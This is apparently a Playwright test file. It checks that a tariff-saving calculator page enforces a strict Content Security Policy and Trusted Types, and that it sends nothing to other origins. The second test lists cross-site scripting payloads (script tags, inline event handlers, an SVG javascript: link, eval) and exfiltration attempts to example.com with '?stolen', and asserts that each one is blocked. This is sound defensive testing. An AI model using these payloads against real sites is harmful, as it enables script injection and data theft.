// Nothing leaves the page and nothing foreign runs in it: the policy is strict, the browser keeps to it, and markup that could run a script
// is refused before the browser reads it.
import { expect, test } from "./fixtures";

/** What the page may do; everything else it may not. The hashes are those of its own inline scripts and styles. */
const POLICY: Record<string, RegExp> = {
  "default-src": /^'none'$/,
  "script-src": /^'self' 'wasm-unsafe-eval'( 'sha256-[\w+/]{43}=')+$/,
  "style-src": /^'self'( 'sha256-[\w+/]{43}=')+$/,
  "img-src": /^'self' data:$/,
  "connect-src": /^'self'$/,
  "worker-src": /^'self'$/,
  "manifest-src": /^'self'$/,
  "font-src": /^'self'$/,
  "base-uri": /^'none'$/,
  "form-action": /^'none'$/,
  "require-trusted-types-for": /^'script'$/,
  "trusted-types": /^default$/,
};

const policyOf = (html: string) => {
  const content = html.match(/http-equiv="?Content-Security-Policy"? content="([^"]+)"/)![1]!;
  return Object.fromEntries(
    content.split("; ").map((directive) => {
      const [name, ...values] = directive.split(" ");
      return [name!, values.join(" ")];
    }),
  );
};

test("the policy allows what the page needs and nothing else", async ({ page }) => {
  const html = await (await page.request.get("./")).text();
  expect(html.indexOf("Content-Security-Policy"), "before everything it is about").toBeLessThan(html.search(/<(script|style|link)/));
  const policy = policyOf(html);
  expect(Object.keys(policy)).toEqual(Object.keys(POLICY));
  for (const [directive, values] of Object.entries(POLICY)) expect(policy[directive], directive).toMatch(values);

  for (const about of ["about.en.html", "about.zh.html"]) {
    const policy = policyOf(await (await page.request.get(about)).text());
    expect(policy, "a page without a program").toEqual({
      "default-src": "'none'",
      "style-src": expect.stringMatching(/^( ?'sha256-[\w+/]{43}=')+$/),
      "img-src": "data:",
      "base-uri": "'none'",
      "form-action": "'none'",
    });
  }
});

test("what somebody would put into the page does not run, and nothing gets out", async ({ calculator, page, expectComplaint }) => {
  // The browser tells of everything it stops, also of requests that it does not send.
  expectComplaint(/Content Security Policy|Trusted/);
  expectComplaint(/request to another origin: https:\/\/example\.com/);
  await calculator.open("?hs=081060");
  await calculator.expectSaving("¥21,800");
  const outcome = await page.evaluate(async () => {
    // What the test itself runs may do more; what comes later is the page's own.
    await new Promise((resolve) => requestAnimationFrame(resolve));
    const stopped: string[] = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stopped.push(effectiveDirective));
    const ran: string[] = [];
    Object.assign(window, { ran: (what: string) => ran.push(what) });
    const refused: Record<string, string> = {};
    const attempt = (name: string, act: () => unknown) => {
      try {
        act();
        refused[name] = "accepted";
      } catch (error) {
        refused[name] = (error as Error).name;
      }
    };
    const place = document.body.appendChild(document.createElement("div"));

    // Markup the program never writes.
    for (const [name, markup] of Object.entries({
      script: "<script>ran('script')</script>",
      handler: '<img alt="" onerror="ran()">',
      "handler in capitals": '<P ONCLICK="ran()">',
      "handler behind a line": '<p\nonclick="ran()">',
      "handler without quotes": "<p onclick=ran()>",
      frame: '<iframe srcdoc="x"></iframe>',
      "half an element": "<script",
      image: '<img src="https://example.com/?stolen">',
      "drawing with a script": "<svg><script>ran('svg')</script></svg>",
      "drawing that changes a link": '<svg><a><animate attributeName="href" values="javascript:ran()"></animate></a></svg>',
      comment: "<!-- -->",
    })) {
      attempt(name, () => (place.innerHTML = markup));
      attempt(`${name}, behind what is there`, () => place.insertAdjacentHTML("beforeend", `<p class="a">b</p>${markup}`));
    }
    attempt("worker of somebody else", () => new Worker("https://example.com/worker.js"));
    attempt("worker from text", () => new Worker(URL.createObjectURL(new Blob(["1"]))));
    attempt("eval", () => (0, eval)("ran('eval')"));
    attempt("new Function", () => new Function("ran('function')")());
    attempt("another policy", () => (window as any).trustedTypes.createPolicy("other", { createHTML: (text: string) => text }));
    attempt("the policy again", () => (window as any).trustedTypes.createPolicy("default", { createHTML: (text: string) => text }));

    // What the policy of content stops, without an error where it is done.
    const handler = document.createElement("button");
    place.append(handler);
    try {
      handler.setAttribute("onclick", "ran('attribute')");
    } catch {
      // Trusted Types stop this one earlier.
    }
    handler.click();
    const link = Object.assign(document.createElement("a"), { href: "javascript:ran('link')" });
    place.append(link);
    link.click();
    const sent = await Promise.allSettled([
      fetch("https://example.com/?stolen"),
      new Promise((resolve, reject) => {
        const image = Object.assign(new Image(), { onload: resolve, onerror: reject, src: "https://example.com/?stolen" });
        place.append(image);
      }),
    ]);
    const written = (() => {
      place.innerHTML = '<ul role="list"><li class="bar"><svg viewBox="0 0 1 1"><rect width="50%" height="100%"></rect></svg>a &lt; b onclick=1</li></ul>';
      return place.textContent;
    })();
    place.remove();
    return { ran, refused, sent: sent.map(({ status }) => status), stopped, written };
  });
  expect(outcome.ran).toEqual([]);
  expect(Object.entries(outcome.refused).filter(([, result]) => result === "accepted")).toEqual([]);
  expect(outcome.sent).toEqual(["rejected", "rejected"]);
  expect(outcome.stopped).toEqual(expect.arrayContaining(["connect-src", "img-src", "require-trusted-types-for"]));
  expect(outcome.written, "what the program writes is taken").toBe("a < b onclick=1");
  await calculator.value.fill("50000");
  await calculator.expectSaving("¥10,900");
});

test("whatever is opened, nothing is asked of anybody else", async ({ calculator, chinese, page }) => {
  test.slow();
  // That is for the fixtures to see; here is what is opened.
  await calculator.open();
  for (const search of ["?hs=081060", "?from=VN&hs=100630", "?from=CN&to=TH&hs=870380", "?hs=081060,081090", "?browse=08", "?from=SG&hs=2204"]) {
    await calculator.open(search);
    await page.waitForLoadState("networkidle");
  }
  await calculator.open("?hs=081060");
  await calculator.openAllFolds();
  await calculator.search("durian");
  await page.keyboard.press("Escape");
  await calculator.language.selectOption("中文");
  await expect(chinese.product).toHaveValue("鲜榴莲");
  await page.goto("about.zh.html");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  expect(await page.evaluate(() => document.cookie)).toBe("");
});
